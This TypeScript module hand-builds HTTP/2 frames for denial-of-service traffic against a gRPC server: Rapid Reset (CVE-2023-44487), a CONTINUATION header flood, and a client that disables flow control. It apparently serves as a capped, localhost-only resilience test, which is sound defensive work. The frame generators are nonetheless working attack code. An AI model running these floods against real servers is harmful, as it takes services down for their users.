import type { Duplex } from 'node:stream';

/** What no client library does: frames of HTTP/2 (RFC 9113), by hand. */
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const data = 0;
const headers = 1;
const resetStream = 3;
const settings = 4;
const windowUpdate = 8;
const continuation = 9;
const endHeaders = 4;
/** So many at most, so that an attack which is not stopped ends. */
const most = 200_000;
const together = 200;

/** CVE-2023-44487: each request is taken back at once, so that no limit of concurrent streams is reached. */
export function* rapidReset(path: string): Generator<Buffer> {
  yield Buffer.concat([preface, frame(settings, 0, 0, Buffer.alloc(0))]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  for (let first = 0; first < most; first += together) {
    const frames: Buffer[] = [];
    for (let n = first; n < first + together; n += 1) {
      const stream = 2 * n + 1;
      frames.push(frame(headers, endHeaders, stream, request(path)), frame(resetStream, 0, stream, cancel));
    }
    yield Buffer.concat(frames);
  }
}

/** One request whose headers never end (CONTINUATION flood). */
export function* endlessHeaders(path: string): Generator<Buffer> {
  const block = Buffer.concat([literal('x-more'), text('y'.repeat(100))]);
  yield Buffer.concat([preface, frame(settings, 0, 0, Buffer.alloc(0)), frame(headers, 0, 1, request(path))]);
  const some = Buffer.concat(Array.from({ length: together }, () => frame(continuation, 0, 1, block)));
  for (let n = 0; n < most; n += together) yield some;
}

/**
 * One request, with a message, of somebody who says that there is no end to what he takes: all flow control is then TCP's
 * own.
 */
export function greedyCall(path: string, message: Uint8Array): Buffer {
  const most = 2 ** 31 - 1;
  const window = Buffer.alloc(6);
  window.writeUInt16BE(4, 0);
  window.writeUInt32BE(most, 2);
  const more = Buffer.alloc(4);
  more.writeUInt32BE(most - 65_535, 0);
  return Buffer.concat([
    ...[preface, frame(settings, 0, 0, window), frame(windowUpdate, 0, 0, more)],
    ...[frame(headers, endHeaders, 1, request(path)), furtherMessage(message)],
  ]);
}

/** On that request's stream. */
export function furtherMessage(message: Uint8Array): Buffer {
  return frame(data, 0, 1, message);
}

/** As fast as it goes, until all is said or the peer has had enough. */
export function pour(socket: Duplex, frames: Iterator<Buffer>): Promise<void> {
  return new Promise((resolve) => {
    const more = () => {
      const { done, value } = frames.next();
      if (done || socket.destroyed) resolve();
      else socket.write(value, () => setImmediate(more));
    };
    more();
  });
}

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK (RFC 7541) without its table: POST, https, and the rest as literals. */
function request(path: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x87]),
    ...[literal(':path'), text(path), literal(':authority'), text('localhost')],
    ...[literal('content-type'), text('application/grpc'), literal('te'), text('trailers')],
  ]);
}

function literal(name: string): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name)]);
}

function text(value: string): Buffer {
  return Buffer.concat([Buffer.from([value.length]), Buffer.from(value, 'latin1')]);
}
